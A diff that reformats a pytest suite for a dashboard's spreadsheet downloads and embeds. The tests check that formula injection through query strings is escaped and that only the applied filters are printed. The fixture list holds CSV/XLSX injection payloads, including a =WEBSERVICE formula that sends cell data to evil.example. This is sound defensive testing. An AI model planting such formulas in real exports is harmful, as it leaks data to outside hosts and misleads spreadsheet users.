@@ -1,5 +1,6 @@
 """No spreadsheet or CSV injection, and only the filters applied are printed (issue 12, rows "formula injection in
 XLSX downloads" and "embeds print the raw query string")."""
+
 from __future__ import annotations
 
 import csv
@@ -10,8 +11,15 @@ import openpyxl
 import pandas as pd
 import pytest
 
-FORMULAS = ['=HYPERLINK("http://evil.example/","Open the full data")', '=WEBSERVICE("http://evil.example/?"&A2)',
-            "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/","Open the full data")',
+    '=WEBSERVICE("http://evil.example/?"&A2)',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "\r=1",
+]
 
 
 @pytest.fixture(scope="module")
@@ -37,10 +45,15 @@ def _no_formulas(xlsx: bytes) -> None:
 def test_a_formula_in_the_query_string_never_reaches_the_xlsx(app, formula):
     """The issue's reproduction: /download/reach/reach-gender.xlsx?=HYPERLINK(...) put the formula in the "about"
     sheet's Filters cell. Now only the filters applied are printed, and no cell is a formula."""
-    response = app.server.test_client().get("/download/reach/reach-gender.xlsx", query_string=[("", formula), ("programme", "divert")])
+    response = app.server.test_client().get(
+        "/download/reach/reach-gender.xlsx", query_string=[("", formula), ("programme", "divert")]
+    )
     assert response.status_code == 200
     _no_formulas(response.data)
-    about = {row[0]: row[1] for row in openpyxl.load_workbook(io.BytesIO(response.data))["about"].iter_rows(min_row=2, values_only=True)}
+    about = {
+        row[0]: row[1]
+        for row in openpyxl.load_workbook(io.BytesIO(response.data))["about"].iter_rows(min_row=2, values_only=True)
+    }
     assert about["Filters"].startswith("programme=divert, period=")  # the filters in force, defaults included
     assert "evil.example" not in response.data.decode("latin-1")
 
@@ -51,10 +64,15 @@ def test_a_search_that_looks_like_a_formula_is_text_in_every_file(app):
     xlsx = app.server.test_client().get("/download/services/services-directory.xlsx", query_string=query)
     assert xlsx.status_code == 200
     _no_formulas(xlsx.data)
-    about = {row[0]: row[1] for row in openpyxl.load_workbook(io.BytesIO(xlsx.data))["about"].iter_rows(min_row=2, values_only=True)}
+    about = {
+        row[0]: row[1]
+        for row in openpyxl.load_workbook(io.BytesIO(xlsx.data))["about"].iter_rows(min_row=2, values_only=True)
+    }
     assert about["Filters"].startswith("q==HYPERLINK")
     csv_response = app.server.test_client().get("/download/services/services-directory.csv", query_string=query)
-    assert csv_response.status_code == 200 and '"' not in csv_response.headers["Content-Disposition"].split("filename=")[1].strip('"')
+    assert csv_response.status_code == 200 and '"' not in csv_response.headers["Content-Disposition"].split(
+        "filename="
+    )[1].strip('"')
 
 
 def test_text_cells_from_data_are_escaped_and_numbers_are_not():
@@ -73,14 +91,21 @@ def test_text_cells_from_data_are_escaped_and_numbers_are_not():
     # The text as it is, typed as text (XML reads a bare carriage return as a line feed: still not a formula).
     assert names == [f.replace("\r", "\n") for f in FORMULAS] + ["Mentoring", "-"]
     assert all(c.data_type == "s" for c in sheet["A"])
-    assert [c.value for c in sheet["B"][1:]] == [-5, 3, -2.5, 0, 1, 2, 3, -7, 4] and all(c.data_type == "n" for c in sheet["B"][1:])
+    assert [c.value for c in sheet["B"][1:]] == [-5, 3, -2.5, 0, 1, 2, 3, -7, 4] and all(
+        c.data_type == "n" for c in sheet["B"][1:]
+    )
 
 
 def test_mixed_columns_keep_numbers_as_numbers():
     from dashboard.ui import spreadsheet
 
     frame = pd.DataFrame({"Young people": [-5, "[c]", "=1", 10]})
-    assert [r[0] for r in csv.reader(io.StringIO(spreadsheet.csv_bytes(frame).decode(), newline=""))][1:] == ["-5", "[c]", "'=1", "10"]
+    assert [r[0] for r in csv.reader(io.StringIO(spreadsheet.csv_bytes(frame).decode(), newline=""))][1:] == [
+        "-5",
+        "[c]",
+        "'=1",
+        "10",
+    ]
 
 
 def test_embeds_print_only_the_filters_applied(app):
@@ -88,7 +113,9 @@ def test_embeds_print_only_the_filters_applied(app):
     the text under the real figures. Now the Filters line and the link back hold the cleaned filters only."""
     client = app.server.test_client()
     html = client.get("/embed/reach/reach-gender?Correction=These+figures+were+withdrawn+by+the+VRU").data.decode()
-    assert "withdrawn" not in html and "Correction" not in html and "Filters: period: " in html  # the latest year, as shown
+    assert (
+        "withdrawn" not in html and "Correction" not in html and "Filters: period: " in html
+    )  # the latest year, as shown
     html = client.get("/embed/reach/reach-gender?programme=divert&period=1999-00&Correction=withdrawn").data.decode()
     assert "withdrawn" not in html and "Filters: programme: divert, period: " in html and "1999-00" not in html
     assert 'href="/reach?programme=divert' in html
@@ -97,7 +124,10 @@ def test_embeds_print_only_the_filters_applied(app):
 def test_downloads_and_images_print_only_the_filters_applied(app):
     client = app.server.test_client()
     xlsx = client.get("/download/reach/reach-gender.xlsx?programme=divert&programme=x&Correction=withdrawn")
-    about = {row[0]: row[1] for row in openpyxl.load_workbook(io.BytesIO(xlsx.data))["about"].iter_rows(min_row=2, values_only=True)}
+    about = {
+        row[0]: row[1]
+        for row in openpyxl.load_workbook(io.BytesIO(xlsx.data))["about"].iter_rows(min_row=2, values_only=True)
+    }
     assert "withdrawn" not in about["Filters"] and "programme=divert" in about["Filters"]
     page = client.get("/reach?Correction=These+figures+were+withdrawn").data.decode()
     assert page.count('data-notes="Filters: ') >= 1 and "withdrawn" not in page
